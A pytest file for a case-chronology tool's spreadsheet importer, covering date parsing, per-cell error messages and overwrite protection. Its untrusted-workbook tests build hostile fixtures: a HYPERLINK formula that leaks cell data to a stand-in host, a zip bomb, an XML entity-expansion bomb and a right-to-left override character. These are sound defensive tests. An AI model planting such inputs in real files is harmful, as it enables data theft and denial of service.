"""Writing a case without hand-writing YAML: ``casebook new``, the spreadsheet template, and
``casebook import`` of a chronology kept in a spreadsheet — every problem at its cell,
nothing written unless the whole import succeeds, the result proven by the case-file loader."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from casebook.cli import main
from casebook.intake.written_dates import WrittenDateError, edtf_of
from casebook.model.load import check_case_file, load_case
from tests.conftest import ROOT

SOURCES_CSV = ("id,title,publisher,kind,account,reliability,date\n"
               "paper-2020,A report on the arrest,A newspaper,news-report,neutral,secondary,"
               "June 24 2020\n"
               "police-2020,The police statement,A police department,official-statement,"
               "police,primary,2020-06-25\n")
ACTORS_CSV = "id,kind,roles,description\nclerk,person,witness,A store clerk\n"


def _csv(tmp_path: Path, text: str, name: str = "chronology.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _import(tmp_path: Path, chronology: Path, *extra: str) -> tuple[int, Path]:
    out = tmp_path / "casefile" / "imported.yaml"
    args = ["import", str(chronology), "-o", str(out), *extra]
    return main(args), out


def _companions(tmp_path: Path) -> list[str]:
    return ["--sources", str(_csv(tmp_path, SOURCES_CSV, "sources.csv")),
            "--actors", str(_csv(tmp_path, ACTORS_CSV, "actors.csv"))]


# -- casebook new ---------------------------------------------------------------------------
def test_new_writes_a_starter_case_file_that_validates(tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]
                                                       ) -> None:
    out = tmp_path / "city-store-2019.yaml"
    assert main(["new", "city-store-2019", "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    first = text.splitlines()[0]
    assert first.startswith("# yaml-language-server: $schema=")
    schema = (out.parent / first.split("$schema=", 1)[1]).resolve()
    assert schema == (ROOT / "docs" / "casefile.schema.json").resolve()
    assert check_case_file(out) == []
    assert load_case(out).id == "city-store-2019"


def test_new_never_overwrites_and_refuses_a_bad_id(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mine.yaml"
    out.write_text("my own work\n", encoding="utf-8")
    assert main(["new", "mine", "-o", str(out)]) == 2
    assert "exists" in capsys.readouterr().err
    assert out.read_text(encoding="utf-8") == "my own work\n"
    assert main(["new", "Not A Slug", "-o", str(tmp_path / "x.yaml")]) == 2
    assert not (tmp_path / "x.yaml").exists()


def test_the_template_filled_with_three_events_imports_to_a_valid_case(tmp_path: Path) -> None:
    template = tmp_path / "template.xlsx"
    assert main(["new", "corner-store-2021", "--xlsx", "-o", str(template)]) == 0
    book = load_workbook(template)
    assert {"Read me", "Case", "Events", "Sources", "Actors", "Evidence", "Claims"} \
        <= set(book.sheetnames)
    events = book["Events"]
    headers = [c.value for c in events[1]]
    assert headers[:4] == ["id", "when", "type", "what"]
    column = {h: n for n, h in enumerate(headers)}

    def row(**cells: object) -> list[object]:
        out: list[object] = [None] * len(headers)
        for key, value in cells.items():
            out[column[key]] = value
        return out

    events.append(row(id="offense", when="Jan 2021", type="offense",
                      what="A phone was taken from a corner store.", sources="paper-2020",
                      who="present: clerk"))
    events.append(row(id="photo-array", when="about March 2021", type="photo-lineup",
                      what="The clerk was shown a photo array.",
                      sources="paper-2020 {page: 2}", who="witness: clerk"))
    events.append(row(id="arrest", when=datetime(2021, 4, 2), type="arrest",
                      what="A man was arrested.", sources="police-2020"))
    sources = book["Sources"]
    src_cols = [c.value for c in sources[1]]
    for line in SOURCES_CSV.splitlines()[1:]:
        values = dict(zip(SOURCES_CSV.splitlines()[0].split(","), line.split(","),
                          strict=True))
        sources.append([values.get(h) for h in src_cols])
    actors = book["Actors"]
    act_cols = [c.value for c in actors[1]]
    actors.append([{"id": "clerk", "kind": "person", "roles": "witness",
                    "description": "A store clerk"}.get(h) for h in act_cols])
    book.save(template)

    status, out = _import(tmp_path, template)
    assert status == 0
    case = load_case(out)
    assert case.id == "corner-store-2021"
    assert [(e.id, e.when[0].value) for e in case.events] == [
        ("offense", "2021-01"), ("photo-array", "2021-03~"), ("arrest", "2021-04-02")]
    assert case.event_by_id["offense"].participants == {"present": ["clerk"]}
    pinned = case.event_by_id["photo-array"].sources[0]
    assert pinned == "paper-2020" and pinned.pin is not None and pinned.pin.page == 2
    text = out.read_text(encoding="utf-8")
    assert "title: unknown  # fill in" in text  # the Case sheet gave no title
    assert "# written 'about March 2021'" in text


# -- a CSV chronology -----------------------------------------------------------------------
def test_a_bad_date_in_row_3_is_named_and_nothing_is_written(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chronology = _csv(tmp_path, "id,when,type,what,sources\n"
                                "offense,2019-10,offense,A theft.,paper-2020\n"
                                "lineup,2019-13,photo-lineup,An array was shown.,paper-2020\n")
    status, out = _import(tmp_path, chronology, *_companions(tmp_path))
    assert status == 1
    err = capsys.readouterr().err
    assert "chronology.csv:3:when: '2019-13' is not an EDTF date" in err
    assert "nothing written" in err
    assert (not out.exists() and not out.parent.exists()) or list(out.parent.iterdir()) == []


def test_every_problem_at_once_each_at_its_line_and_column(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chronology = _csv(tmp_path, "id,when,type,what,sources,colour\n"
                                "offense,2019-10,ofense,A theft.,paper-2020,red\n"
                                "lineup,3/4/2019,photo-lineup,An array.,no-such-source,\n"
                                "arrest,2019-12,arrest,An arrest.,paper-2020,\n")
    status, _out = _import(tmp_path, chronology, *_companions(tmp_path))
    assert status == 1
    err = capsys.readouterr().err
    assert "chronology.csv:1:colour: unknown column 'colour'" in err
    assert "chronology.csv:2:type: unknown event type 'ofense'" in err
    assert "did you mean `offense`?" in err
    assert ("chronology.csv:3:when: '3/4/2019' could be 2019-03-04 (month first) or "
            "2019-04-03 (day first)") in err
    assert "chronology.csv:3:sources:" in err and "no-such-source" in err
    assert "4 problems" in err


def test_competing_accounts_in_further_rows_and_marked_cells(tmp_path: Path) -> None:
    chronology = _csv(tmp_path, "id,when,type,what,sources,account,peer_reviewed\n"
                                "fr-search,2019-03,fr-search,A face search.,paper-2020,,no\n"
                                "fr-search,2019-04,,,police-2020,police,unknown\n"
                                "arrest,2020-01-09 | 2020-01-10,arrest,An arrest.,paper-2020,,"
                                "\n")
    status, out = _import(tmp_path, chronology, *_companions(tmp_path))
    assert status == 0
    case = load_case(out)
    search = case.event_by_id["fr-search"]
    assert [(c.value, list(c.sources), c.account) for c in search.when] == [
        ("2019-03", [], None), ("2019-04", ["police-2020"], "police")]
    assert case.when_disputed(search)
    assert [c.value for c in search.facts["peer_reviewed"]] == [False, "unknown"]
    assert [c.value for c in case.event_by_id["arrest"].when] == ["2020-01-09", "2020-01-10"]


def test_a_further_row_may_not_change_what_the_first_row_said(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chronology = _csv(tmp_path, "id,when,type,what,sources\n"
                                "offense,2019-10,offense,A theft.,paper-2020\n"
                                "offense,2019-11,arrest,,police-2020\n")
    status, _ = _import(tmp_path, chronology, *_companions(tmp_path))
    assert status == 1
    assert "chronology.csv:3:type: a further row of event 'offense' adds competing " \
        "accounts only" in capsys.readouterr().err


def test_an_existing_file_is_never_overwritten(tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    chronology = _csv(tmp_path, "id,when,type,what,sources\n"
                                "offense,2019-10,offense,A theft.,paper-2020\n")
    out = tmp_path / "casefile" / "imported.yaml"
    out.parent.mkdir()
    out.write_text("hand-written\n", encoding="utf-8")
    status, _ = _import(tmp_path, chronology, *_companions(tmp_path))
    assert status == 2
    assert "never overwrites" in capsys.readouterr().err
    assert out.read_text(encoding="utf-8") == "hand-written\n"


def test_the_apostrophe_a_csv_export_puts_before_a_formula_is_removed(tmp_path: Path) -> None:
    chronology = _csv(tmp_path, "id,when,type,what,sources\n"
                                "offense,2019-10,offense,'=1+1 was written on the wall,"
                                "paper-2020\n"
                                "arrest,2019-11,arrest,'Twas an arrest,paper-2020\n")
    status, out = _import(tmp_path, chronology, *_companions(tmp_path))
    assert status == 0
    case = load_case(out)
    assert case.event_by_id["offense"].summary == "=1+1 was written on the wall"
    assert case.event_by_id["arrest"].summary == "'Twas an arrest"


# -- untrusted workbooks ---------------------------------------------------------------------
def test_a_formula_is_never_evaluated_or_carried_over(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = "Events"
    sheet.append(["id", "when", "type", "what", "sources"])
    sheet.append(["offense", "2019-10", "offense", '=HYPERLINK("http://x.test/?"&A1,"a")',
                  "paper-2020"])
    sources = book.create_sheet("Sources")
    sources.append(SOURCES_CSV.splitlines()[0].split(","))
    sources.append(SOURCES_CSV.splitlines()[1].split(","))
    path = tmp_path / "formula.xlsx"
    book.save(path)  # openpyxl stores the formula with no cached value
    status, out = _import(tmp_path, path)
    assert status == 0
    text = out.read_text(encoding="utf-8")
    assert "HYPERLINK" not in text
    assert load_case(out).event_by_id["offense"].summary == "unknown"


def test_a_zip_bomb_and_a_fifo_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    from casebook.intake import reading

    monkeypatch.setattr(reading, "MAX_UNZIPPED", 4 * 1024 * 1024)  # the bound, made small
    bomb = tmp_path / "bomb.xlsx"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (5 * 1024 * 1024))
    bomb.write_bytes(buf.getvalue())
    assert bomb.stat().st_size < 64 * 1024
    status, out = _import(tmp_path, bomb)
    assert status == 1 and not out.exists()
    assert "unzips to" in capsys.readouterr().err
    import os

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    status, out = _import(tmp_path, fifo)
    assert status == 1 and not out.exists()
    assert "not a regular file" in capsys.readouterr().err


def test_an_xml_entity_bomb_is_refused(tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    book = Workbook()
    book.active.title = "Events"
    book.active.append(["id", "when", "type", "what"])
    buf = io.BytesIO()
    book.save(buf)
    entities = "".join(f'<!ENTITY e{n} "{"&e" + str(n - 1) + ";" * 10 if n else "lol"}">'
                       for n in range(10))
    evil = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(evil, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = f"<!DOCTYPE x [{entities}]>".encode() + data.replace(
                    b"<c ", b"<c><v>&e9;</v></c><c ", 1)
            dst.writestr(item, data)
    path = tmp_path / "entities.xlsx"
    path.write_bytes(evil.getvalue())
    status, out = _import(tmp_path, path)
    assert status == 1 and not out.exists()
    assert "not a readable Excel workbook" in capsys.readouterr().err


# -- written dates ---------------------------------------------------------------------------
@pytest.mark.parametrize(("written", "edtf"), [
    ("2019-07-16", "2019-07-16"), ("Jan 2020", "2020-01"), ("January 9, 2020", "2020-01-09"),
    ("9 January 2020", "2020-01-09"), ("about March 2019", "2019-03~"),
    ("circa 2018", "2018~"), ("possibly June 2019", "2019-06?"), ("2019-07?", "2019-07?"),
    ("2019-07 to 2019-08-23", "2019-07/2019-08-23"),
    ("between 2019-07-01 and 2019-07-15", "[2019-07-01..2019-07-15]"),
    ("spring 2019", "2019-21"), ("before 2020-01-09", "[..2020-01-09]"),
    ("13/1/2020", "2020-01-13"), ("07/2019", "2019-07"), (2019, "2019"),
    (datetime(2020, 1, 9, 0, 0), "2020-01-09"),
])
def test_written_dates_become_edtf(written: object, edtf: str) -> None:
    assert edtf_of(written) == edtf


@pytest.mark.parametrize("written", ["2019-13", "sometime", "3/4/2019", "Smarch 2019",
                                     "31 February 2020"])
def test_what_is_no_date_is_refused_with_a_reason(written: str) -> None:
    with pytest.raises(WrittenDateError) as info:
        edtf_of(written)
    assert repr(written) in info.value.message or written in info.value.message


def test_the_docs_list_every_sheet_and_column_as_the_importer_reads_them() -> None:
    from casebook.intake.layout import columns_markdown
    from casebook.intake.layout_doc import documented_columns

    text = (ROOT / "docs" / "spreadsheet-import.md").read_text(encoding="utf-8")
    assert documented_columns(text) == columns_markdown().strip("\n"), \
        "stale: run `make schema` (python -m casebook.intake.layout_doc --write)"


def test_a_casemap_style_header_is_read_and_a_column_given_twice_is_refused(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chronology = _csv(tmp_path, "Date & Time,Fact Text,Event type,Source(s)\n"
                                "2019-10,A theft.,offense,paper-2020\n")
    status, out = _import(tmp_path, chronology, *_companions(tmp_path))
    assert status == 0
    case = load_case(out)
    assert [(e.when[0].value, e.summary, e.type) for e in case.events] == [
        ("2019-10", "A theft.", "offense")]
    twice = _csv(tmp_path, "when,date,type,what,sources\n"
                           "2019-10,2019-11,offense,A theft.,paper-2020\n", "twice.csv")
    out.unlink()
    status, _ = _import(tmp_path, twice, *_companions(tmp_path))
    assert status == 1
    assert "twice.csv:1:date: column 'date' is another name for 'when'" in \
        capsys.readouterr().err


_CELL = st.one_of(st.none(), st.text(max_size=30), st.sampled_from(
    ["2019-07", "Jan 2020", "about March 2019", "2019-07 to 2019-08-23", "3/4/2019", "offense",
     "arrest", "paper-2020", "paper-2020 {page: 2}", "paper-2020 {page: ", "by: clerk",
     "peer_reviewed=yes", "x=", "=1+1", "'=1+1", "a | b", "unknown", "yes"]))
_HEADER = st.sampled_from(["id", "when", "type", "what", "who", "sources", "facts",
                           "peer_reviewed", "Date & Time", "colour", "", "when"])


@settings(max_examples=40)
@given(headers=st.lists(_HEADER, min_size=1, max_size=7),
       rows=st.lists(st.lists(_CELL, max_size=8), max_size=5))
def test_no_spreadsheet_makes_the_importer_raise_anything_but_its_own_error(
        tmp_path_factory: pytest.TempPathFactory, headers: list[str],
        rows: list[list[str | None]]) -> None:
    from casebook.intake import SpreadsheetError, import_spreadsheet
    from casebook.model.load import check_case_text

    folder = tmp_path_factory.mktemp("prop")
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(headers)
    writer.writerows([["" if c is None else c for c in row] for row in rows])
    chronology = folder / "chronology.csv"
    chronology.write_text(buf.getvalue(), encoding="utf-8")
    sources = folder / "sources.csv"
    sources.write_text(SOURCES_CSV, encoding="utf-8")
    try:
        imported = import_spreadsheet(chronology, companions={"Sources": sources},
                                      output=folder / "out.yaml")
    except SpreadsheetError as err:
        assert err.problems
        assert all(str(p).startswith(str(folder)) or "chronology.csv" in str(p)
                   for p in err.problems)
    else:  # what the importer hands back always loads
        assert check_case_text(imported.text, "out.yaml") == []


def test_a_problem_in_a_workbook_names_its_sheet_and_cell(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = "Events"
    sheet.append(["id", "when", "type", "what", "sources"])
    sheet.append(["offense", "2019-10", "offense", "A theft.", "paper-2020"])
    sheet.append(["lineup", "2019-13", "photo-lineup", "An array\u202e was shown.",
                  "paper-2020"])
    sources = book.create_sheet("Sources")
    sources.append(SOURCES_CSV.splitlines()[0].split(","))
    sources.append(SOURCES_CSV.splitlines()[1].split(","))
    path = tmp_path / "chronology.xlsx"
    book.save(path)
    status, out = _import(tmp_path, path)
    assert status == 1 and not out.exists()
    err = capsys.readouterr().err
    assert "chronology.xlsx:Events!B3: when: '2019-13' is not an EDTF date" in err
    assert "chronology.xlsx:Events!D3: what: a control character ('\\u202e') in the text" \
        in err
    assert "\u202e" not in err  # never sent to the terminal
